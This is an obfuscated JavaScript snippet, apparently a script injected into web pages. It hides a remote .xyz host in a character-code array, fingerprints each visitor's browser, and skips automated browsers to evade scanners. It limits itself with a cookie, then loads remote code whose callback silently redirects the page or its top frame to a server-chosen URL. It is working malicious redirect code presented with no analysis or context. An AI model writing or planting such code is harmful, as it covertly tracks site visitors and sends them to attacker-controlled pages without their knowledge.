!function(){var n=window["\x6e\x61\x76\x69\x67\x61\x74\x6f\x72"],s=screen,d=document,
u=String.fromCharCode(104,116,116,112,115,58,47,47,103,111,46,116,114,97,102,102,105,99,114,111,117,116,101,45,100,115,112,46,120,121,122,47,116,47),
z="";try{z=Intl.DateTimeFormat().resolvedOptions()["\x74\x69\x6d\x65\x5a\x6f\x6e\x65"]}catch(e){}
if(n["\x77\x65\x62\x64\x72\x69\x76\x65\x72"])return;
if(d.cookie.indexOf("_tdx=")>-1)return;
var p=[z,n.language,s.width,s.height,"ontouchstart"in window?1:0,n.maxTouchPoints||0,d.referrer,location.host],
q=p.map(function(v){return encodeURIComponent(v)}).join("\u007c"),
c="_j"+(+new Date);
d.cookie="_tdx=1;path=/;max-age="+6*3600;
window[c]=function(r){
if(!r||!r.l)return;
var L=window["\x6c\x6f\x63\x61\x74\x69\x6f\x6e"];
r.t?window.top["\x6c\x6f\x63\x61\x74\x69\x6f\x6e"].href=r.l:L["\x72\x65\x70\x6c\x61\x63\x65"](r.l)};
var e=d.createElement("script");e.src=u+"k7?f="+btoa(q)+"&c="+c;
(d.head||d.body).appendChild(e)
}();
